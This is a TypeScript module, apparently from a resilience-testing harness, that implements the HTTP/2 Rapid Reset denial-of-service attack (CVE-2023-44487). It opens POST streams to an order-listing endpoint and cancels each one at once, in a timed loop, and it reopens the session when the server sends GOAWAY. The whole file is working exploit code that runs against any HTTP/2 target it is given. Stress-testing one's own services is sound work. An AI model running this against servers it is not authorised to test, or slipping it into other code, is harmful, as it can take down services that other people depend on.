// Streams that are reset as soon as they are opened (CVE-2023-44487): the server begins work that no answer limits.
//
//   HEADERS stream 1, RST_STREAM 1, HEADERS stream 3, RST_STREAM 3, ...
import { constants } from 'node:http2';
import { type Attack, OutcomeCounter, openSession, repeatUntil } from '../attack.ts';

const RESETS_PER_TURN = 10;
const PAUSE_MS = 20;

export const rapidReset: Attack = {
  name: 'rapid reset',
  run: async (target, signal) => {
    const counter = new OutcomeCounter();
    const open = () => {
      const session = openSession(target.url, signal);
      session.once('goaway', () => counter.add('goaway'));
      return session;
    };
    let session = open();
    await repeatUntil(signal, PAUSE_MS, () => {
      if (session.destroyed || session.closed) session = open();
      for (let reset = 0; reset < RESETS_PER_TURN; reset += 1) {
        const stream = session.request({ ':method': 'POST', ':path': '/shop.order.v1.OrderService/ListOrders' });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
        counter.add('reset');
      }
    });
    return counter.outcomes;
  },
};
